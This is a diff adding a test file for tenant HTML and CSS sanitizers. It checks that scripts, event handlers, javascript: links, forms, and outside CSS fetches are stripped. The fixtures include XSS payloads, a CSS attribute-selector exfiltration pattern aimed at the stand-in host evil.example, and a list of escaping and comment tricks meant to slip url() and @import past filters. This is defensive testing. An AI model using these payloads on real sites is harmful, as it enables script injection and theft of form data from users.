@@ -1,0 +1,84 @@
+import { sanitizeTenantCss, sanitizeTenantHtml } from './sanitize';
+
+describe('sanitizeTenantHtml', () => {
+  it('removes scripts and event handlers and keeps the markup', () => {
+    const html =
+      '<img src="x" onerror="window.__xss=\'img\'"><script>window.__xss=\'script\'</script><p>Hostile header</p>';
+    const clean = sanitizeTenantHtml(html);
+    expect(clean).toBe('<img src="x"><p>Hostile header</p>');
+  });
+
+  it('removes style elements and attributes, javascript: links and form controls', () => {
+    const clean = sanitizeTenantHtml(
+      '<style>body{display:none}</style><p style="position:fixed">Hi</p><a href="javascript:alert(1)">x</a>' +
+        '<form action="https://evil.example"><input name="ssn"><button>Go</button></form>',
+    );
+    expect(clean).not.toMatch(/<style|style=|javascript:|<form|<input|<button/i);
+    expect(clean).toContain('<p>Hi</p>');
+  });
+
+  it('keeps ordinary tenant markup and entities as they are', () => {
+    const header = '<div class="brand-header"><strong>Demo Title &amp; Escrow</strong></div>';
+    expect(sanitizeTenantHtml(header)).toBe(header);
+  });
+
+  it('passes null through', () => {
+    expect(sanitizeTenantHtml(null)).toBeNull();
+  });
+});
+
+describe('sanitizeTenantCss', () => {
+  it('drops @import and outside url() from the hostile fixture', () => {
+    const css =
+      '@import url(https://evil.example/leak.css); input[value^="a"] { background: url(https://evil.example/a) }';
+    const clean = sanitizeTenantCss(css) ?? '';
+    expect(clean).not.toContain('@import');
+    expect(clean).not.toContain('evil.example');
+    expect(clean).toContain('input[value^="a"] { background: none }');
+  });
+
+  it.each([
+    ['quoted url', 'a { background: url("https://evil.example/a") }'],
+    ['single-quoted url', "a { background: url('//evil.example/a') }"],
+    ['protocol-relative', 'a { background: url(//evil.example/a) }'],
+    ['backslashes', 'a { background: url("\\\\\\\\evil.example/a") }'],
+    ['scheme without slashes', 'a { background: url(https:evil.example/a) }'],
+    ['escaped url function', 'a { background: u\\72l(https://evil.example/a) }'],
+    ['escaped @import', '@\\69mport "https://evil.example/x.css";'],
+    ['@import of a string', '@import "https://evil.example/x.css";'],
+    ['image-set strings', 'a { background-image: image-set("https://evil.example/a" 1x) }'],
+    ['font src', '@font-face { font-family: x; src: url(https://evil.example/f.woff2) format("woff2") }'],
+    ['newline inside the url', 'a { background: url("/\n/evil.example/a") }'],
+    ['comment inside a keyword', '@im/**/port url(https://evil.example/x.css);'],
+    ['unterminated url at the end', 'a { background: url(https://evil.example/a'],
+    ['websocket', 'a { background: url(wss://evil.example/a) }'],
+  ])('drops an outside fetch hidden as %s', (_name, css) => {
+    expect(sanitizeTenantCss(css)).not.toMatch(/evil\.example/);
+  });
+
+  it('keeps same-origin and data: URLs, and the allowed asset origins', () => {
+    const css =
+      '.a { background: url(/assets/bg.png) } .b { background: url("data:image/png;base64,AAAA") } ' +
+      '.c { background: url(https://assets.example.com/logo.svg) }';
+    expect(sanitizeTenantCss(css, { allowedOrigins: ['https://assets.example.com'] })).toBe(css);
+  });
+
+  it('drops an origin that is not on the allowed list', () => {
+    const css = '.c { background: url(https://assets.example.com.evil.example/logo.svg) }';
+    expect(sanitizeTenantCss(css, { allowedOrigins: ['https://assets.example.com'] })).toBe('.c { background: none }');
+  });
+
+  it('leaves ordinary CSS and harmless strings alone', () => {
+    const css =
+      '.brand-header em { font-style: italic; font-family: "Georgia", serif; } p::before { content: "Call: 555" }';
+    expect(sanitizeTenantCss(css)).toBe(css);
+  });
+
+  it('cannot close the style element it is written into', () => {
+    expect(sanitizeTenantCss('a{}</style><script>alert(1)</script>')).not.toContain('</style');
+  });
+
+  it('passes null through', () => {
+    expect(sanitizeTenantCss(null)).toBeNull();
+  });
+});
